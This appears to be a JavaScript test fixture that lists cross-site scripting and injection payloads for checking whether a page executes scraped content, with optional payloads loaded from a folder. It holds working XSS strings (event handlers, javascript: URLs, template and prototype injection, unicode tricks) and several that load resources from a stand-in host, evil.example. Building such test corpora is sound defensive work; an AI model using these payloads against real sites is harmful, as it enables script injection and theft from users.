// Ways to make a page run what was scraped; each calls fired() or asks for a file. Collected ones (a folder, a payload a file) are added where HYPELINE_HOSTILE names one.
import { readFileSync, readdirSync, statSync } from "node:fs";
import { join } from "node:path";

const own = [
  "<script>fired(1)</script>", "<img src=x onerror=fired(2)>", "<svg onload=fired(3)>", "<svg><animate onbegin=fired(4) attributeName=x dur=1s>", "\"><img src=x onerror=fired(5)>", "' onmouseover='fired(6)",
  "</title><script>fired(7)</script>", "</textarea><script>fired(8)</script>", "<iframe srcdoc='<script>parent.fired(9)</script>'></iframe>", "<details open ontoggle=fired(10)>", "<body onload=fired(11)>",
  "<input autofocus onfocus=fired(12)>", "<video><source onerror=fired(13)></video>", "javascript:fired(14)", "data:text/html,<script>fired(15)</script>", "<a href=javascript:fired(16)>x</a>",
  "<link rel=stylesheet href=http://evil.example/x.css>", "<style>@import 'http://evil.example/y.css'</style>", "<img src=http://evil.example/z.png>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
  "<base href=http://evil.example/>", "<form action=http://evil.example/><button>x", "</script><script>fired(17)</script>", "\u2028fired(18)//", "*/fired(19)/*", "\"});fired(20);({\"", "');fired(21);//", "${fired(22)}", "`${fired(23)}`",
  "{{constructor.constructor('fired(24)')()}}", "<!--<img src=\"--><img src=x onerror=fired(25)>", "<math><mtext></table><mglyph><style><img src=x onerror=fired(26)>", "\u0000<script>fired(27)</script>", "<scr\u0000ipt>fired(28)</script>",
  "\ufeff<script>fired(29)</script>", "<object data=http://evil.example/o></object>", "<embed src=http://evil.example/e>", "__proto__", "constructor", "\u202e</p>\u2066<script>fired(30)</script>", "&lt;script&gt;fired(31)&lt;/script&gt;", "%3Cscript%3Efired(32)%3C/script%3E",
];

function collected(folder) {
  return readdirSync(folder, { recursive: true }).map((name) => join(folder, String(name))).filter((path) => statSync(path).isFile()).map((path) => readFileSync(path, "utf8").slice(0, 4000));
}

export const payloads = [...own, ...(process.env.HYPELINE_HOSTILE ? collected(process.env.HYPELINE_HOSTILE) : [])];
export const ownPayloads = own;
